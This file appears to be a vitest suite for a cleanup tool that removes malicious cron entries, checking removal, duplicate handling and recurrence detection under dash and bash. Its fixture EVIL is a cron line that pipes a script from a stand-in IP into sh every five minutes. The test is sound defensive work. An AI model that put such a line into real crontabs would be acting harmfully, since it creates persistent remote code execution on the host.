import { Buffer } from 'node:buffer';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { sha256Hex } from '../../domain/digest.ts';
import type { Target } from '../../domain/plan.ts';
import { line } from '../../domain/shell-line.ts';
import type { Receipt } from '../../domain/targets/receipt.ts';
import type { HostSession } from '../../ssh/host-session.ts';
import { CONTEXT } from '../action/lines/splice.fixture.ts';
import { parseReceipts } from '../action/receipts.ts';
import { DASH_AND_BASH, runLocally, TRY_LIBRARY } from '../call/local-shell.fixture.ts';
import { cronLine } from '../call/scene.fixture.ts';
import { actLibrary } from '../call/scripts.ts';
import { applier } from './apply.ts';

const EVIL = '*/5 * * * * curl -fsSL http://203.0.113.9:8443/i.sh | sh';
const ALIKE = '*/5 * * * * curl -fsSL https://deploy.corp.example/sync.sh | sh';
const LIBRARY = actLibrary([applier]) + TRY_LIBRARY;

let path: string;
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'davy-cron-'));
  path = join(folder, 'tab');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

describe.each(DASH_AND_BASH)('$name', (shell) => {
  const text = (): string => readFileSync(path, 'utf8');

  /** Runs the act, then `meanwhile`, then what is done once more after the kill; what the receipts say. */
  function act(targets: readonly Target[], meanwhile = ':', surveyedLines?: number) {
    const context = {
      ...CONTEXT,
      ...(surveyedLines === undefined ? {} : { surveyedLines: new Map([[path, surveyedLines]]) }),
    };
    const [said = ''] = runLocally(shell, LIBRARY, [
      line(
        'tried',
        ...applier.program(targets, context),
        meanwhile,
        ...(applier.last?.(targets, context) ?? []),
      ),
    ]);
    const told = said.split('\n').filter((row) => /^(before|after|note) /.test(row));
    const { receipts } = parseReceipts(Buffer.from(told.map((row) => `${row}\n`).join('')));
    return { said, receipts };
  }

  /** What a look afterwards sees, with the act's receipts or without any. */
  async function seen(targets: readonly Target[], receipts: readonly Receipt[]): Promise<string[]> {
    const call = async (asked: Parameters<HostSession['call']>[0]) => {
      const [stdout = ''] = runLocally(shell, LIBRARY, [asked]);
      return { exit: 0, stdout: Buffer.from(stdout), stderr: Buffer.alloc(0), truncated: false };
    };
    const session = { call } as unknown as HostSession;
    return (await applier.inspect(session, targets, CONTEXT, receipts)).map((one) => one.seen);
  }

  test('a neighbour that looks like the removed line does not speak against its removal', async () => {
    writeFileSync(path, `${ALIKE}\n${EVIL}\n${ALIKE} \n`);
    const before = sha256Hex(readFileSync(path));
    const targets = [cronLine(path, EVIL)];
    const { said, receipts } = act(targets, ':', 3);
    expect(said).toMatch(/^after act_T \S+ done$/m);
    expect(text()).toBe(`${ALIKE}\n${ALIKE} \n`);
    expect(said).toContain(`before=${before} after=${sha256Hex(readFileSync(path))}`);
    expect(await seen(targets, receipts)).toEqual(['absent']);
    expect(await seen(targets, [])).toEqual(['absent']);
  });

  test('of two identical lines one was approved: the other one stays, is no return, and speaks against nothing', async () => {
    writeFileSync(path, `${EVIL}\n17 * * * * clock\n${EVIL}\n`);
    const targets = [cronLine(path, EVIL, 1)];
    const { said, receipts } = act(targets);
    expect(said.match(/^after .*$/gm)).toEqual([expect.stringMatching(/ done$/)]);
    expect(said).not.toContain('came-back');
    expect(text()).toBe(`17 * * * * clock\n${EVIL}\n`);
    expect(await seen(targets, receipts)).toEqual(['absent']);
  });

  test('what came back is cut, as often as it came, and an equal line beside it stays', async () => {
    writeFileSync(path, `${EVIL}\nkeep\n${EVIL}\n${EVIL}\n`);
    const targets = [cronLine(path, EVIL, 1), cronLine(path, EVIL, 3)];
    const { said, receipts } = act(targets, `printf '%s\\n' '${EVIL}' >>'${path}'`);
    expect(said.match(/came-back/g)).toHaveLength(1);
    expect(text()).toBe(`keep\n${EVIL}\n`);
    expect(await seen(targets, receipts)).toEqual(['absent', 'absent']);
    writeFileSync(path, `${EVIL}\nkeep\n${EVIL}\n${EVIL}\n`);
    expect(await seen(targets, receipts)).toEqual(['present', 'present']);
  });

  test('a line that is missing before our write was edited, if as many stand there as the survey saw', () => {
    writeFileSync(path, `MAILTO=""\n${EVIL.replace('i.sh', 'j.sh')}\n`);
    expect(act([cronLine(path, EVIL)], ':', 2).said).toMatch(/^after act_T \S+ changed reason=edited$/m);
    expect(act([cronLine(path, EVIL)], ':', 3).said).toMatch(/^after act_T \S+ already-absent$/m);
    expect(act([cronLine(path, EVIL)]).said).toMatch(/^after act_T \S+ already-absent$/m);
    writeFileSync(path, `MAILTO=""\n#${EVIL}\n`);
    expect(act([cronLine(path, EVIL)], ':', 2).said).toMatch(/ neutralised reason=commented$/m);
  });
});
